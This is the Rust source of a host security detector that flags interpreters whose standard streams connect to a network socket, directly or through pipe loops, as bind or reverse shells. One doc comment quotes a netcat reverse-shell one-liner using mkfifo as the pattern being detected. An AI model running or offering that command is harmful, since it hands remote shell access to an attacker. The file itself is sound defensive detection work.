//! `shell_on_socket`: an interpreter whose standard streams lead to a connection, directly or through pipes.
//!
//! In: processes that become another program, and connections. Out: a finding for each such interpreter.
//!
//! Through pipes, a shell is one when what it writes reaches a process with a connection, and what that process writes
//! reaches the shell, over a few programs in between: `mkfifo f; cat f | sh | nc HOST PORT > f`. A pipe is known by
//! its inode, which both of its ends share.

use std::sync::Arc;

use hashbrown::HashMap;
use hashlink::LruCache;

use super::finding::{Finding, Sentence, hash};
use super::places::is_local;
use super::rule::{Rule, Severity};
use super::{Detector, Scene};
use crate::event::{BootTime, ProcessKey, Stream};
use crate::observation::{Connection, Direction, Fact};
use crate::output::action::{Action, ActionSet};
use crate::process::image::Image;

pub(super) static RULE: Rule = Rule {
    id: "shell_on_socket",
    name: "Shell on a connection",
    description: "An interpreter takes its commands from a network connection, or sends its output there: a bind shell or a reverse \
                  shell.",
    techniques: &["T1059.004", "T1571"],
    method: "At its exec an interpreter (sh, bash, python, perl and the like) has a TCP connection as its standard input or output, \
             or both are pipes that lead to a process with a connection and back, over five processes at most. Not seen: \
             streams that are exchanged after the exec, shells behind a terminal of their own (pty), and other kinds \
             of sockets. Services that are started with a connection as their input, as inetd does, look the same if they are \
             scripts.",
};

/// Processes whose input and output are pipes, the latest.
const PIPED_MAX: usize = 4096;
/// How many processes may pass on to one another what a shell reads and writes, itself included.
const MEMBERS_MAX: usize = 5;

/// A process between two pipes.
struct Piped {
    process: Arc<Image>,
    is_interpreter: bool,
    input: u64,
    output: u64,
    connection: Option<Connection>,
}

pub(super) struct Shells {
    piped: LruCache<ProcessKey, Piped, foldhash::fast::FixedState>,
    /// Who reads from a pipe.
    readers: HashMap<u64, ProcessKey, foldhash::fast::FixedState>,
    evictions: u64,
}

impl Shells {
    pub(super) fn new() -> Self {
        Self {
            piped: LruCache::with_hasher(PIPED_MAX, Default::default()),
            readers: HashMap::default(),
            evictions: 0,
        }
    }

    fn executed(
        &mut self,
        time: BootTime,
        process: &Arc<Image>,
        is_interpreter: bool,
    ) -> Option<Finding> {
        let program = &process.program;
        self.forget(process.key);
        if let Some(over) = program.over.as_ref().filter(|_| is_interpreter) {
            return Some(direct(time, process, &over.0));
        }
        let [Stream::Pipe(input), Stream::Pipe(output)] = program.streams else {
            return None;
        };
        if self.piped.len() == PIPED_MAX
            && let Some((oldest, piped)) = self.piped.remove_lru()
        {
            self.forget_reader(oldest, piped.input);
            self.evictions += 1;
        }
        let piped = Piped {
            process: Arc::clone(process),
            is_interpreter,
            input,
            output,
            connection: None,
        };
        self.piped.insert(process.key, piped);
        self.readers.insert(input, process.key);
        // Whoever is on the way may be the last to come.
        self.circle(time, process.key)
    }

    /// A process between two pipes talks to somebody.
    fn connected(
        &mut self,
        time: BootTime,
        process: &Image,
        connection: &Connection,
    ) -> Option<Finding> {
        self.piped.get_mut(&process.key)?.connection = Some(connection.clone());
        self.circle(time, process.key)
    }

    fn forget(&mut self, process: ProcessKey) {
        if let Some(piped) = self.piped.remove(&process) {
            self.forget_reader(process, piped.input);
        }
    }

    fn forget_reader(&mut self, process: ProcessKey, input: u64) {
        if self.readers.get(&input) == Some(&process) {
            self.readers.remove(&input);
        }
    }

    /// What a process writes comes back to it, by way of an interpreter and of somebody with a connection.
    fn circle(&self, time: BootTime, start: ProcessKey) -> Option<Finding> {
        let first = self.piped.peek(&start)?;
        let mut members = vec![first];
        let mut at = first.output;
        while at != first.input {
            if members.len() == MEMBERS_MAX {
                return None;
            }
            let next = self.piped.peek(self.readers.get(&at)?)?;
            members.push(next);
            at = next.output;
        }
        let shell = members.iter().find(|member| member.is_interpreter)?;
        let (contact, connection) = members
            .iter()
            .find_map(|member| Some((member, member.connection.as_ref()?)))?;
        Some(through_pipes(time, shell, contact, connection))
    }
}

impl Detector for Shells {
    fn rules(&self) -> &'static [&'static Rule] {
        const { &[&RULE] }
    }

    fn actions(&self) -> ActionSet {
        ActionSet::NONE
            .with(Action::ProcessExec)
            .with(Action::ProcessExit)
            .with(Action::ConnectionOpened)
            .with(Action::ConnectionAccepted)
    }

    fn observe(&mut self, scene: &Scene<'_>, found: &mut Vec<Finding>) {
        let time = scene.time;
        match scene.fact {
            Fact::ProcessExecuted(process) => {
                found.extend(self.executed(time, process, scene.said.is_interpreter));
            }
            Fact::ProcessExited { process, .. } => self.forget(process.key),
            fact => {
                if let (Some(process), Some(connection)) = (fact.process(), fact.connection())
                    && !self.piped.is_empty()
                    && !is_local(&connection.endpoints)
                {
                    found.extend(self.connected(time, process, connection));
                }
            }
        }
    }

    fn evictions(&self) -> u64 {
        self.evictions
    }
}

fn direct(time: BootTime, process: &Arc<Image>, connection: &Connection) -> Finding {
    let text = Sentence::about(process.name.as_bytes())
        .and("'s standard streams are a connection ")
        .and(way(connection));
    finding(time, process, connection, text)
}

fn through_pipes(
    time: BootTime,
    shell: &Piped,
    contact: &Piped,
    connection: &Connection,
) -> Finding {
    let text = Sentence::about(shell.process.name.as_bytes())
        .and("'s standard streams lead through pipes to ")
        .name(contact.process.name.as_bytes())
        .and(format_args!(
            "[{}], which has a connection {}",
            contact.process.key.tgid,
            way(connection)
        ));
    finding(time, &shell.process, connection, text)
}

fn finding(
    time: BootTime,
    process: &Arc<Image>,
    connection: &Connection,
    text: Sentence,
) -> Finding {
    Finding::about(time, &RULE, Severity::High, process, text)
        .with(connection)
        .on(hash(connection.endpoints.remote.ip()))
}

fn way(connection: &Connection) -> String {
    let remote = connection.endpoints.remote;
    match connection.direction {
        Direction::Ingress => format!("from {remote}"),
        Direction::Egress => format!("to {remote}"),
        Direction::Unknown => format!("with {remote}"),
    }
}
